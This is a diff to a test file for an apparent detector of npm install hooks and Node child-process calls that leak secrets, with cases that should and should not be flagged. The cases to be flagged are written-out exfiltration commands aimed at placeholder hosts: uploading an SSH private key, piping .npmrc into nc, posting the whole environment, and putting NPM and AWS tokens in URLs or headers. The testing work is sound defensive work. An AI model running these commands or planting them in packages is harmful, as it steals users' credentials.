@@ -15,11 +15,23 @@ examine(sendsWithACommand, {
     },
     { when: 'a key file is uploaded', files: run(`cp.execSync('curl -T ~/.ssh/id_rsa https://a.invalid')`), says: ['credential files'] },
     { when: 'a token file is piped into nc', files: hook('cat ~/.npmrc | nc 192.0.2.1 80') },
+    {
+      when: 'Node prints the environment into it',
+      files: hook('node -p "JSON.stringify(process.env)" | curl -s -d @- https://a.invalid/'),
+      weight: 'proof',
+    },
+    { when: 'a secret variable is in the address', files: hook('curl -s "https://a.invalid/?t=$NPM_TOKEN"'), weight: 'strong' },
+    { when: 'a secret variable is in a header', files: hook('wget -q --header "X: ${AWS_SECRET_ACCESS_KEY}" https://a.invalid/') },
   ],
   silent: [
     { when: 'a command only inherits the environment', files: run(`cp.spawn('curl', ['https://a.invalid'], { env: process.env })`) },
     { when: 'a build sets variables', files: hook('env CC=clang node-gyp rebuild') },
     { when: 'the environment is shown', files: hook('env | grep npm_') },
+    {
+      when: 'a service is shown its own token',
+      files: hook('curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.invalid/x -o x'),
+    },
+    { when: 'a plain variable is in the address', files: hook('curl -s https://a.invalid/$npm_package_version.tgz -o x') },
     { when: 'it goes to the own machine', files: run(`cp.exec('env | curl -d @- http://localhost:8080')`) },
     { when: 'a file of data is uploaded', files: run(`cp.execSync('curl -T report.json https://a.invalid')`) },
   ],
